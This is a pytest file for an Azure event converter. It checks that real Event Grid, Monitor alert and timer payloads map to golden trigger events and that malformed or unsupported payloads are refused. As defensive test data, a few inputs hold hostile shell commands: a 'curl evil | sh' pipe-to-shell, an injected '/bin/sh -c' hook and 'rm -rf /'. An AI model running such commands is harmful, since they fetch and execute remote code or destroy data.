"""Real Azure event payloads (tests/events/azure) convert to the golden trigger events beside
them, and anything else is refused with a clear reason."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from quiesce.triggers.convert import UnsupportedEvent
from quiesce.triggers.event import TriggerEvent
from quiesce_azure.triggers import convert, timer_event, to_ncrontab

EVENTS = Path(__file__).resolve().parents[1] / "events" / "azure"
FIXTURES = sorted(p.name for p in EVENTS.glob("*.json"))
FIRED = datetime(2026, 11, 29, 4, 0, 0, 12345, tzinfo=UTC)


def load(name: str) -> Any:
    return json.loads((EVENTS / name).read_text())


def converted(name: str) -> list[TriggerEvent]:
    if name.startswith("timer"):
        return [timer_event(load(name), trigger="nightly", now=FIRED)]
    return convert(load(name))


@pytest.mark.parametrize("name", FIXTURES)
def test_each_real_event_converts_to_its_golden_trigger_event(name: str) -> None:
    assert [e.model_dump(mode="json") for e in converted(name)] == load(f"expected/{name}")


def test_every_supported_shape_has_a_fixture() -> None:
    assert FIXTURES == [
        "arm_deployment_cloudevent.json",
        "arm_deployment_eventgrid.json",
        "monitor_alert_fired.json",
        "monitor_alert_resolved.json",
        "timer.json",
    ]


def test_a_timer_is_named_by_its_trigger_and_identified_by_the_minute_it_fired() -> None:
    event = timer_event(load("timer.json"), trigger="nightly", now=FIRED)
    again = timer_event(load("timer.json"), trigger="nightly", now=FIRED.replace(second=40))
    assert (event.kind, event.trigger) == ("schedule", "nightly")
    assert event.id == again.id == "nightly@2026-11-29T04:00Z"
    assert timer_event({}, trigger="hourly", now=FIRED).id == "hourly@2026-11-29T04:00Z"


def test_both_event_grid_schemas_give_the_same_attributes() -> None:
    (grid,) = convert(load("arm_deployment_eventgrid.json"))
    (cloud,) = convert(load("arm_deployment_cloudevent.json"))
    assert grid.attributes.keys() == cloud.attributes.keys()
    assert (grid.kind, grid.attributes["deployment"]) == ("deploy", "orders-release-42")
    assert cloud.attributes["resource_group"] == "shop-rg"


def test_an_event_grid_batch_converts_every_event() -> None:
    batch = [load("arm_deployment_eventgrid.json"), load("arm_deployment_cloudevent.json")]
    assert [e.attributes["deployment"] for e in convert(batch)] == [
        "orders-release-42",
        "orders-release-43",
    ]


def test_fired_and_resolved_of_one_alert_are_distinct_events() -> None:
    (fired,) = convert(load("monitor_alert_fired.json"))
    (resolved,) = convert(load("monitor_alert_resolved.json"))
    assert fired.id != resolved.id
    assert (fired.attributes["alarm"], fired.attributes["severity"]) == (
        "orders-db-disk-full",
        "Sev2",
    )


def test_extra_fields_in_a_payload_never_reach_the_trigger_event() -> None:
    payload = load("monitor_alert_fired.json")
    payload["data"]["customProperties"] = {"hooks": {"pre": {"run": ["/bin/sh", "-c", "evil"]}}}
    payload["data"]["essentials"]["command"] = "curl evil | sh"
    (event,) = convert(payload)
    dumped = json.dumps(event.model_dump(mode="json"))
    assert "evil" not in dumped
    assert "hooks" not in dumped


def _alert(mutate: Any) -> Any:
    payload = copy.deepcopy(load("monitor_alert_fired.json"))
    mutate(payload)
    return payload


def _deploy(mutate: Any) -> Any:
    payload = copy.deepcopy(load("arm_deployment_eventgrid.json"))
    mutate(payload)
    return payload


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (["run", "/bin/sh"], "not a JSON object"),
        ({"command": "rm -rf /"}, "no converter for event type ''"),
        (_alert(lambda p: p.update({"schemaId": "AzureMonitorMetricAlert"})), "common alert"),
        (_alert(lambda p: p["data"].pop("essentials")), "essentials is not an object"),
        (_alert(lambda p: p["data"]["essentials"].pop("alertRule")), "lacks alertRule"),
        (
            _alert(lambda p: p["data"]["essentials"].update({"monitorCondition": "Maybe"})),
            "unknown monitorCondition",
        ),
        (
            _alert(lambda p: p["data"]["essentials"].update({"firedDateTime": "yesterday"})),
            "not a timestamp",
        ),
        (_deploy(lambda p: p.update({"eventType": "Microsoft.Storage.BlobCreated"})), "no conv"),
        (_deploy(lambda p: p.pop("data")), "lacks data"),
        (
            _deploy(lambda p: p["data"].update({"resourceUri": "/subscriptions/s/rg/vm"})),
            "not an event about a Microsoft.Resources/deployments",
        ),
    ],
)
def test_an_unsupported_or_malformed_event_is_refused_with_the_reason(
    payload: Any, message: str
) -> None:
    with pytest.raises(UnsupportedEvent, match=message):
        convert(payload)


def test_cron_is_converted_for_azure_functions() -> None:
    assert to_ncrontab("0 4 * * *") == "0 0 4 * * *"
    with pytest.raises(ValueError, match="needs 5 fields"):
        to_ncrontab("0 0 4 * * *")
